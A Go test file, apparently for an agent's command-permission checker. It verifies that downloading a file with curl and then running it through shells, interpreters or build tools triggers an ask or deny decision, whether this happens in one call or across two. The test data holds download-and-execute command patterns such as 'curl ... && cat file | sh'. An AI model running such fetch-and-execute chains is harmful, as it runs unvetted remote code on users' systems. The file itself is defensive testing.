package session_test

import (
	"fmt"
	"testing"

	"longline/internal/tool"
)

// TestLaterAsInOneCall: what is asked about or denied because the same call fetched what it runs is asked about too
// if an earlier call fetched it, whatever the program is.
func TestLaterAsInOneCall(t *testing.T) {
	files := []string{
		"main.go", "lib/util.go", "x_test.go", "X.java", "build.rs", "src/main.rs", "conftest.py", "test_x.py", "setup.py", "noxfile.py", "a.js", "a.test.ts", "vite.config.ts",
		".eslintrc.js", "Makefile", "rules.mk", "CMakeLists.txt", "Dockerfile", "compose.yml", "Rakefile", "a.rb", "build.gradle", "pom.xml", "package.json", "pyproject.toml",
		"a.tf", "run.sh", "justfile", "a.php", "p.awk", "p.jq", "tool",
	}
	tools := []string{
		"go run %s", "go run .", "go test ./...", "go vet ./...", "java %s", "cargo build", "cargo test", "pytest", "pytest %s", "python3 %s", "pip install -e .", "nox", "node %s", "npm test",
		"npx jest", "npx vite build", "npx eslint .", "npx tsc", "make", "make -f %s", "cmake -B build", "docker build .", "docker build -f %s .", "docker compose up -d",
		"docker compose -f %s up -d", "rake", "ruby %s", "gradle test", "mvn test", "terraform plan", "bash %s", "sh < %s", ". ./%s", "source %s", "just", "php %s", "awk -f %s a", "jq -f %s a",
		"cat %s | sh", "chmod +x %s && ./%[1]s", "xargs -a %s sh -c", "env X=1 python3 %s", "cp %s y.py && python3 y.py", "tox", "deno run %s", "bun %s",
	}
	m, differ := newMachine(t), 0
	m.mode = "bypassPermissions"
	for _, file := range files {
		for _, form := range tools {
			run := fmt.Sprintf(form+"%.0s", file, file)
			m.text = nil
			if m.judge(run, true, false).Decision >= tool.Ask {
				continue // anyhow
			}
			fetch := "curl -sLo " + file + " https://example.com/x"
			once := m.judge(fetch+" && "+run, true, false)
			m.text = nil
			m.judge(fetch, false, false)
			v := m.judge(run, true, false)
			if once.Decision >= tool.Ask {
				differ++
			}
			if (once.Decision >= tool.Ask) != (v.Decision >= tool.Ask) {
				t.Errorf("%s && %s: %s by %s; in two calls %s by %s", fetch, run, once.Decision, once.Rule, v.Decision, v.Rule)
			}
		}
	}
	if differ < 500 {
		t.Errorf("only %d forms run what was fetched", differ)
	}
}
